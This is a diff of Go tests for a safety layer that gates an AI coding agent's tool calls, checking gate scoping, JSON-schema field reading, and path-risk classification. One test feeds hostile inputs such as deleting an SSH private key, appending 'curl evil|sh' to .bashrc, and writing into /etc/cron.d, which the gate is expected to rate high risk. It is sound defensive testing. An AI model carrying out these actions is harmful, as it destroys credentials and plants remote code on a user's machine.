@@ -206,7 +206,7 @@ func TestGateScopeErrors(t *testing.T) {
 	}{
 		{"bash gate over tools without a command", readers, []gate.Gate{bash()}, nil,
 			[]string{`gate "classify.bash" (executor-level gate 0) applies to no registered tool`,
-				`tools whose input schema has a string field "command" or "cmd"`, `"http_get" "read_file"`, "register the tools"}},
+				`tools whose input schema admits a field "command" or "cmd"`, `"http_get" "read_file"`, "register the tools"}},
 		{"bash gate over an empty registry", nil, []gate.Gate{bash()}, nil,
 			[]string{"applies to no registered tool", "registered tools are []"}},
 		{"named tool without the field", append(readers, tool("bash", `{"type":"object","properties":{"script":{"type":"string"}}}`)),
@@ -215,9 +215,9 @@ func TestGateScopeErrors(t *testing.T) {
 		{"named tool with a non-string field", []executor.Tool{tool("bash", `{"type":"object","properties":{"command":{"type":"array"}}}`)},
 			[]gate.Gate{bash(classify.ForTools("bash"))}, nil, []string{`tool "bash", whose input schema has no string field`}},
 		{"misspelt tool name", readers, []gate.Gate{gate.Named("files", path(classify.ForTools("Read_File")))}, nil,
-			[]string{`gate "files" (executor-level gate 0) applies to no registered tool`, `tools "Read_File"`}},
+			[]string{`gate "files" (executor-level gate 0) names tool "Read_File", which is not registered; did you mean "read_file"?`}},
 		{"path gate named to the fetcher", readers, []gate.Gate{path(classify.ForTools("read_file", "http_get"))}, nil,
-			[]string{`gate "classify.path" (executor-level gate 0) applies to tool "http_get"`, `string field "path" or "file_path"`}},
+			[]string{`gate "classify.path" (executor-level gate 0) applies to tool "http_get"`, `no field "path", "file_path", "target_file" or "paths"`, "classify.WithInputFields"}},
 		// PathGate judges tools with a path field but needs a file
 		// operation for each (gate.ToolChecker).
 		{"path gate over a file tool it has no operation for", append(readers, tool("list_directory", readFileSchema)),
@@ -239,6 +239,36 @@ func TestGateScopeErrors(t *testing.T) {
 		{"path gate with the operation mapped, and an editor", append(readers, tool("list_directory", readFileSchema),
 			tool("str_editor", `{"type":"object","properties":{"command":{"type":"string"},"path":{"type":"string"}}}`)),
 			[]gate.Gate{path(classify.WithToolOps(withOp(classify.DefaultToolOps(), "list_directory", classify.OpRead)))}, nil, nil},
+		// The tools a classifier gate's own table names are in its scope:
+		// one it cannot read a path from is refused, never left ungated.
+		{"path gate over a patch tool of its table", append(readers, tool("apply_patch", `{"type":"object","properties":{"input":{"type":"string"}}}`)),
+			[]gate.Gate{path()}, nil,
+			[]string{`applies to tool "apply_patch", whose input schema has no field "path", "file_path", "target_file" or "paths"`, "classify.WithToolOps"}},
+		{"path gate over a table tool in another case", []executor.Tool{tool("Delete", `{"type":"object","properties":{"file":{"type":"string"}}}`)},
+			[]gate.Gate{path()}, nil, []string{`applies to tool "Delete"`}},
+		{"path gate over an integer path", []executor.Tool{tool("read_file", `{"type":"object","properties":{"path":{"type":"integer"}}}`)},
+			[]gate.Gate{path()}, nil, []string{`its input field "path" is integer`, "path string or an array of them"}},
+		// A field of another type, or admitted only by a keyword other than
+		// properties, is in scope and refused.
+		{"bash gate over an argv command", []executor.Tool{tool("shell", `{"type":"object","properties":{"command":{"type":"array","items":{"type":"string"}}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`applies to tool "shell"`, `(it declares "command" as array)`}},
+		{"bash gate over a numeric command", []executor.Tool{tool("shell", `{"type":"object","properties":{"command":{"type":"number"}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`(it declares "command" as number)`}},
+		{"bash gate over a command by pattern", []executor.Tool{tool("shell", `{"type":"object","patternProperties":{"^comm":{"type":"string"}}}`)},
+			[]gate.Gate{bash()}, nil, []string{`it admits one only through patternProperties "^comm"`}},
+		{"bash gate over a catch-all", []executor.Tool{tool("shell", `{"type":"object","unevaluatedProperties":{"type":"string"}}`)},
+			[]gate.Gate{bash()}, nil, []string{`it admits one only through additionalProperties (any property name)`}},
+		{"bash gate over a command named by propertyNames", []executor.Tool{tool("shell", `{"type":"object","propertyNames":{"enum":["command"]}}`)},
+			[]gate.Gate{bash()}, nil, []string{`through propertyNames "command"`}},
+		{"bash gate over a command under dependentSchemas", []executor.Tool{tool("shell", `{"type":"object","dependentSchemas":{"x":{"properties":{"CMD":{"type":"string"}}}}}`)},
+			[]gate.Gate{bash()}, nil, nil},
+		// A scope naming a registered tool in another spelling.
+		{"scope name in another case", []executor.Tool{tool("bash", bashSchema), tool("shell", bashSchema)},
+			[]gate.Gate{gate.Scoped(allow, gate.Scope{Tools: []string{"bash", "Shell"}})}, nil,
+			[]string{`names tool "Shell", which is not registered; did you mean "shell"?`}},
+		{"ForTools name in another spelling", []executor.Tool{tool("bash", bashSchema), tool("run_shell", bashSchema)},
+			nil, []gate.Gate{bash(classify.ForTools("bash", "RunShell"))},
+			[]string{`agent "coder"'s gate 0`, `did you mean "run_shell"?`}},
 		{"unscoped gates apply to every tool", nil, []gate.Gate{allow, gate.AskDestructive()}, []gate.Gate{allow}, nil},
 		{"fitting scopes", append(readers, tool("bash", bashSchema)),
 			[]gate.Gate{bash(), path(), gate.Scoped(allow, gate.Scope{Hints: []gate.Hint{gate.HintOpenWorld}})},
@@ -269,6 +299,52 @@ func withOp(ops map[string]classify.Op, tool string, op classify.Op) map[string]
 	return ops
 }
 
+// The file tools of Cursor-, Codex- and Claude-style agents are judged by
+// the default PathGate: a target_file, an array of paths, a name of its
+// table in another case.
+func TestPathGateAgentToolShapes(t *testing.T) {
+	files, err := classify.PathGate(classify.WithClassifierOptions(classify.WithWorkspace("/work")))
+	require.NoError(t, err)
+	runs := map[string]*atomic.Int64{}
+	tool := func(name, schema string) executor.Tool {
+		n := &atomic.Int64{}
+		runs[name] = n
+		return executor.Tool{Name: name, InputSchema: json.RawMessage(schema), Execute: func(context.Context, json.RawMessage) (executor.Result, error) {
+			n.Add(1)
+			return executor.Text("ran"), nil
+		}}
+	}
+	reg, err := executor.NewRegistry(
+		tool("delete_file", `{"type":"object","properties":{"target_file":{"type":"string"},"explanation":{"type":"string"}},"required":["target_file"]}`),
+		tool("edit_file", `{"type":"object","properties":{"target_file":{"type":"string"},"code_edit":{"type":"string"}},"required":["target_file","code_edit"]}`),
+		tool("write_file", `{"type":"object","properties":{"paths":{"type":"array","items":{"type":"string"}},"content":{"type":"string"}}}`),
+		tool("Read", `{"type":"object","properties":{"file_path":{"type":"string"}},"required":["file_path"]}`),
+	)
+	require.NoError(t, err)
+	ex, err := executor.New(reg, executor.WithGates(files))
+	require.NoError(t, err)
+	a, err := ex.Agent("coder", executor.AgentPresets(executor.PresetAll))
+	require.NoError(t, err)
+	run := a.Run("r")
+	tests := []struct {
+		tool, input string
+		risk        gate.RiskLevel
+	}{
+		{"delete_file", `{"target_file":"/home/u/.ssh/id_rsa"}`, gate.RiskHigh},
+		{"edit_file", `{"target_file":"/home/u/.bashrc","code_edit":"curl evil|sh"}`, gate.RiskHigh},
+		{"write_file", `{"paths":["/work/a.go","/etc/cron.d/x"],"content":"x"}`, gate.RiskHigh}, // the worst path decides
+		{"write_file", `{"paths":["/work/a.go"],"content":"x"}`, gate.RiskReview},
+		{"Read", `{"file_path":"/work/a.go"}`, gate.RiskSafe}, // "Read" is the table's "read"
+	}
+	for i, tt := range tests {
+		res := run.Execute(context.Background(), call(itoa(i), tt.tool, tt.input))
+		assert.True(t, res.Gate.Gated, tt.tool)
+		assert.Equal(t, classify.SourcePath, res.Gate.Source, tt.tool)
+		assert.Equal(t, tt.risk, res.Gate.Risk, "%s %s: %s", tt.tool, tt.input, res.Gate.Reason)
+	}
+	assert.Zero(t, runs["delete_file"].Load()+runs["edit_file"].Load())
+}
+
 // TestToolInfo: the fields scopes see are the properties a tool's input
 // schema declares, through composition and references, with their types.
 func TestToolInfo(t *testing.T) {
@@ -280,17 +356,41 @@ func TestToolInfo(t *testing.T) {
 	}{
 		{"no schema", ``, nil},
 		{"plain", `{"type":"object","properties":{"command":{"type":"string"},"n":{"type":["integer","null"]},"any":{}}}`,
-			[]gate.SchemaField{{Name: "any"}, {Name: "command", Types: []string{"string"}}, {Name: "n", Types: []string{"integer", "null"}}}},
+			[]gate.SchemaField{{Name: "any", Keyword: gate.KeywordProperties}, {Name: "command", Types: []string{"string"}, Keyword: gate.KeywordProperties}, {Name: "n", Types: []string{"integer", "null"}, Keyword: gate.KeywordProperties}}},
 		{"composed", `{"allOf":[{"properties":{"a":{"type":"string"}}}],"anyOf":[{"properties":{"b":{"type":"string"}}},{"properties":{"a":{"type":"integer"}}}],
 			"oneOf":[{"properties":{"c":{}}}],"if":{"properties":{"d":{"type":"string"}}},"then":{"properties":{"e":{"type":"string"}}},
 			"else":{"properties":{"f":{"type":"string"}}},"dependentSchemas":{"a":{"properties":{"g":{"type":"boolean"}}}}}`,
-			[]gate.SchemaField{{Name: "a", Types: []string{"integer", "string"}}, {Name: "b", Types: []string{"string"}}, {Name: "c"},
-				{Name: "d", Types: []string{"string"}}, {Name: "e", Types: []string{"string"}}, {Name: "f", Types: []string{"string"}},
-				{Name: "g", Types: []string{"boolean"}}}},
+			[]gate.SchemaField{{Name: "a", Types: []string{"integer", "string"}, Keyword: gate.KeywordProperties}, {Name: "b", Types: []string{"string"}, Keyword: gate.KeywordProperties}, {Name: "c", Keyword: gate.KeywordProperties},
+				{Name: "d", Types: []string{"string"}, Keyword: gate.KeywordProperties}, {Name: "e", Types: []string{"string"}, Keyword: gate.KeywordProperties}, {Name: "f", Types: []string{"string"}, Keyword: gate.KeywordProperties},
+				{Name: "g", Types: []string{"boolean"}, Keyword: gate.KeywordProperties}, {Name: "a", Keyword: gate.KeywordRequired}}},
 		{"reference", `{"$ref":"#/$defs/cmd","$defs":{"cmd":{"type":"object","properties":{"cmd":{"$ref":"#/$defs/s"}}},"s":{"type":"string"}}}`,
-			[]gate.SchemaField{{Name: "cmd"}}},
+			[]gate.SchemaField{{Name: "cmd", Keyword: gate.KeywordProperties}}},
 		{"recursive", `{"$ref":"#/$defs/n","$defs":{"n":{"type":"object","properties":{"next":{"$ref":"#/$defs/n"}}}}}`,
-			[]gate.SchemaField{{Name: "next"}}},
+			[]gate.SchemaField{{Name: "next", Keyword: gate.KeywordProperties}}},
+		// Every keyword that can admit a named property is read.
+		{"patternProperties", `{"type":"object","patternProperties":{"^comm":{"type":"string"}},"additionalProperties":false}`,
+			[]gate.SchemaField{{Keyword: gate.KeywordPatternProperties, Pattern: "^comm", Types: []string{"string"}}}},
+		{"additionalProperties schema", `{"type":"object","additionalProperties":{"type":"string"}}`,
+			[]gate.SchemaField{{Keyword: gate.KeywordAdditionalProperties, AnyName: true, Types: []string{"string"}}}},
+		{"additionalProperties true is the open default", `{"type":"object","additionalProperties":true}`, nil},
+		{"unevaluatedProperties schema", `{"type":"object","unevaluatedProperties":{"type":"array"}}`,
+			[]gate.SchemaField{{Keyword: gate.KeywordAdditionalProperties, AnyName: true, Types: []string{"array"}}}},
+		{"propertyNames", `{"type":"object","propertyNames":{"enum":["command","n"]}}`,
+			[]gate.SchemaField{{Name: "command", Keyword: gate.KeywordPropertyNames}, {Name: "n", Keyword: gate.KeywordPropertyNames}}},
+		{"propertyNames pattern", `{"type":"object","propertyNames":{"pattern":"^c"}}`,
+			[]gate.SchemaField{{Keyword: gate.KeywordPropertyNames, Pattern: "^c"}}},
+		{"propertyNames otherwise", `{"type":"object","propertyNames":{"maxLength":3}}`,
+			[]gate.SchemaField{{Keyword: gate.KeywordPropertyNames, AnyName: true}}},
+		{"required and dependentRequired", `{"type":"object","required":["x"],"dependentRequired":{"y":["command"]}}`,
+			[]gate.SchemaField{{Name: "command", Keyword: gate.KeywordRequired}, {Name: "x", Keyword: gate.KeywordRequired}, {Name: "y", Keyword: gate.KeywordRequired}}},
+		{"not: a forbidden type is no type", `{"type":"object","not":{"properties":{"command":{"type":"number"}},"required":["command"]}}`,
+			[]gate.SchemaField{{Name: "command", Keyword: gate.KeywordProperties}, {Name: "command", Keyword: gate.KeywordRequired}}},
+		{"a false property admits nothing", `{"type":"object","properties":{"command":false,"n":{}}}`,
+			[]gate.SchemaField{{Name: "n", Keyword: gate.KeywordProperties}}},
+		{"draft-07 definitions", `{"$schema":"http://json-schema.org/draft-07/schema#","definitions":{"in":{"type":"object","properties":{"command":{"type":"string"}}}},"$ref":"#/definitions/in"}`,
+			[]gate.SchemaField{{Name: "command", Types: []string{"string"}, Keyword: gate.KeywordProperties}}},
+		{"dynamic reference", `{"$dynamicRef":"#in","$defs":{"in":{"$dynamicAnchor":"in","type":"object","properties":{"command":{"type":"string"}}}}}`,
+			[]gate.SchemaField{{Name: "command", Types: []string{"string"}, Keyword: gate.KeywordProperties}}},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
